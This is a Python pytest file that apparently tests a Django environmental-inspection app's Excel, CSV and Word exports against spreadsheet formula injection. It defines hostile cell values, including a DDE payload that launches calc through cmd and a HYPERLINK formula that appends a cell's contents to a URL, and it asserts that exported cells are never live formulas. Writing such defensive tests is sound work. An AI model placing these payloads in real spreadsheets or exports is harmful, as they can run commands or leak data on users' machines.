"""No export carries a formula (issue #10): a problem registered through the API with the title
``=HYPERLINK("http://x"&B3,"点此查看")`` and another whose title is PATCHed to ``=cmd|' /C calc'!A0``, a
petition and a measure of the same kind; then, as the office, the publisher, the auditor and the public,
every download link the pages show (the official tables, the lists, the error workbook, the public
tables …) is followed and every file opened: no .xlsx cell is a formula and each text is shown exactly as
written; a CSV cell that a spreadsheet would read as a formula starts with an apostrophe; a .docx opens.

The links all come from the pages (the walk of tests/config/test_link_walk.py); only the starts and the
two "export the ticked rows" forms (POST) are named here.
"""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from urllib.parse import parse_qsl, urlsplit

import docx
import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from ecoinspect.ledger.choices import ProblemStatus as S
from ecoinspect.ledger.models import Problem
from ecoinspect.petitions.choices import PetitionStatus as PS
from tests.config.test_link_walk import SKIPPED_NAMES, targets, url_name
from tests.factories import (
    BatchFactory,
    PetitionFactory,
    ProblemFactory,
    advance,
    import_row,
    import_workbook,
    xlsx_upload,
)
from tests.factories.petitions import disclose_batch

pytestmark = pytest.mark.usefixtures("clock", "media_root")

HYPERLINK = '=HYPERLINK("http://x"&B3,"点此查看")'
CALC = "=cmd|' /C calc'!A0"
MEASURE = "-2+3 封堵排水口"
HOSTILE = (HYPERLINK, CALC, MEASURE)
#: How many pages of one kind (URL name, query keys) a walk opens; files are always fetched.
PER_KIND = 2
BUDGET = 90


@pytest.fixture
def clock(monkeypatch):
    from tests.clock import Clock

    return Clock(monkeypatch)


@pytest.fixture
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def client_of(user=None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def api(client, method: str, url: str, body: dict) -> dict:
    response = getattr(client, method)(
        url, data=json.dumps(body, default=str), content_type="application/json"
    )
    assert response.status_code == 200, response.content
    return response.json()


@pytest.fixture
def hostile(people, structure, django_capture_on_commit_callbacks):
    office = client_of(people["coordinator"])
    first = api(
        office,
        "post",
        reverse("api:problem_create"),
        {
            "title": HYPERLINK,
            "source": "feedback",
            "lead_unit": structure["swj"].pk,
            "acceptance_unit": structure["sthj"].pk,
            "deadline": "2027-06-30",
        },
    )
    problem = Problem.objects.get(pk=first["id"])
    advance(problem, S.RECTIFYING)
    water = client_of(people["water"])
    api(
        water,
        "post",
        reverse("api:measure_create", kwargs={"problem_id": problem.pk}),
        {"content": MEASURE, "owner_unit": structure["swj"].pk},
    )
    measure = problem.measures.get()
    api(water, "post", reverse("api:measure_complete", kwargs={"measure_id": measure.pk}), {})
    advance(Problem.objects.get(pk=problem.pk), S.PUBLICITY)  # the closing notice lists it
    second = ProblemFactory(minimal=True, status=S.RECTIFYING, title="原标题")
    api(
        office,
        "patch",
        reverse("api:problem_update", kwargs={"problem_id": second.pk}),
        {"version": second.version, "title": CALC},
    )
    from ecoinspect.ledger.services import notice_issue

    notice_issue(
        actor=people["coordinator"],
        unit=structure["swj"],
        problems=[problem],
        requirements=HYPERLINK,
        reply_due=problem.registered_on.replace(year=problem.registered_on.year + 1),
    )
    batch = BatchFactory(number=7)
    PetitionFactory(batch=batch, seq=1, status=PS.APPROVED, complaint_text=HYPERLINK + " 白云大道北1号噪声")
    disclose_batch(batch)
    PetitionFactory(batch=batch, seq=2, complaint_text=CALC)
    # an import whose errors quote the hostile cells (the error workbook is a download too)
    with django_capture_on_commit_callbacks(execute=True):
        office.post(
            reverse("ledger:import_upload"),
            {"file": xlsx_upload(import_workbook([import_row(CALC, HYPERLINK, 牵头单位="区水利局")]))},
        )
    return {"problems": [problem.pk, second.pk], "batch": batch}


# --- the walk ---------------------------------------------------------------------------------------------


def is_file(response) -> bool:
    return "attachment" in response.get("Content-Disposition", "")


def walk(client: Client, starts: list[str], budget: int = BUDGET) -> dict[str, object]:
    """Follow every link and GET form the pages offer, from ``starts``; the files found, by URL."""
    files, seen, kinds = {}, set(), Counter()
    queue = list(starts)
    while queue and len(seen) - len(files) < budget:  # the budget counts pages, not files
        url = queue.pop(0)
        if (
            url in seen
            or url_name(url) in SKIPPED_NAMES
            or urlsplit(url).path.startswith(("/api/", "/admin/"))
        ):
            continue
        query = dict(parse_qsl(urlsplit(url).query))
        download = "format" in query or urlsplit(url).path.endswith((".docx", "/docx/"))
        kind = (url_name(url), tuple(sorted(query)))
        if not download and kinds[kind] >= PER_KIND:
            continue
        kinds[kind] += 1
        seen.add(url)
        response = client.get(url, follow=True)
        assert response.status_code < 500, f"{response.status_code} for {url}"
        if is_file(response):
            files[url] = response
        elif response.get("Content-Type", "").startswith("text/html"):
            found = [t for _what, t in targets(url, response.content.decode())]
            # files first: a list page's downloads are what this walk is for
            queue[:0] = [t for t in found if "format=" in t or t.endswith((".docx", "/docx/"))]
            queue.extend(t for t in found if t not in queue)
    return files


def opened_xlsx(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def texts_of(book) -> list:
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def test_every_download_the_pages_offer_is_formula_free_and_shows_the_text_as_written(people, hostile):
    files = {}
    # the publisher sees every list of the district and the disclosure; the office its imports; the
    # auditor the logs; anyone the public tables
    for person, starts, budget in (
        ("publisher", ["/", reverse("petitions:batch_disclosure", args=[hostile["batch"].pk])], BUDGET),
        ("coordinator", [reverse("ledger:import_upload")], 30),
        ("auditor", [reverse("audit:actionlog_list")], 10),
        (None, ["/public/petitions/"], 10),
    ):
        files.update(walk(client_of(people[person] if person else None), starts, budget))
    # the two "export the ticked rows" actions post the ticked ids
    office = client_of(people["coordinator"])
    files["ledger selection"] = office.post(
        reverse("ledger:problem_selection"), {"problems": hostile["problems"], "action": "export"}
    )
    ids = [str(pk) for pk in hostile["batch"].petitions.values_list("pk", flat=True)]
    files["petitions selection"] = office.post(
        reverse("petitions:petition_selection"), {"petitions": ids, "action": "export"}
    )

    kinds = Counter()
    shown_as_written = Counter()
    for url, response in files.items():
        assert is_file(response), url
        name = response["Content-Disposition"]
        if ".xlsx" in name:
            kinds["xlsx"] += 1
            for cell in texts_of(opened_xlsx(response.content)):
                assert cell.data_type != "f", f"{url}: {cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and any(h.split(" ")[0][1:12] in cell.value for h in HOSTILE):
                    assert not cell.value.startswith("'"), f"{url}: {cell.coordinate} shows {cell.value!r}"
                    shown_as_written.update(h for h in HOSTILE if h in cell.value)
        elif ".csv" in name:
            kinds["csv"] += 1
            for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
                for value in row:
                    assert (
                        not value.startswith(("=", "+", "-", "@"))
                        or value.lstrip("-").replace(".", "").isdigit()
                    ), f"{url}: a CSV cell a spreadsheet would run: {value!r}"
        elif ".docx" in name:
            kinds["docx"] += 1
            docx.Document(io.BytesIO(response.content))
    names = {url_name(u) for u in files if u.startswith("/")}
    assert {
        "ledger:export_progress",
        "ledger:export_closing_notice",
        "ledger:problem_list",
        "ledger:import_preview",
        "ledger:notice_docx",
        "audit:actionlog_list",
        "petitions:petition_list",
        "petitions:batch_disclosure",
        "petitions_public:batch",
    } <= names, sorted(names)
    assert kinds["xlsx"] >= 8 and kinds["csv"] >= 2 and kinds["docx"] >= 3, kinds
    # the hostile texts reached the files as written: the official tables, the lists, the error workbook
    assert (
        shown_as_written[HYPERLINK] >= 6 and shown_as_written[CALC] >= 4 and shown_as_written[MEASURE] >= 1
    ), shown_as_written


def test_the_official_tables_hold_the_titles_exactly(people, hostile):
    office = client_of(people["coordinator"])
    for name in ("ledger:export_progress", "ledger:export_closing_notice"):
        response = office.get(reverse(name), {"format": "xlsx"})
        values = [c.value for c in texts_of(opened_xlsx(response.content))]
        assert HYPERLINK in values, name
    progress = [
        c.value
        for c in texts_of(
            opened_xlsx(office.get(reverse("ledger:export_progress"), {"format": "xlsx"}).content)
        )
    ]
    assert CALC in progress and any(MEASURE in str(v) for v in progress)
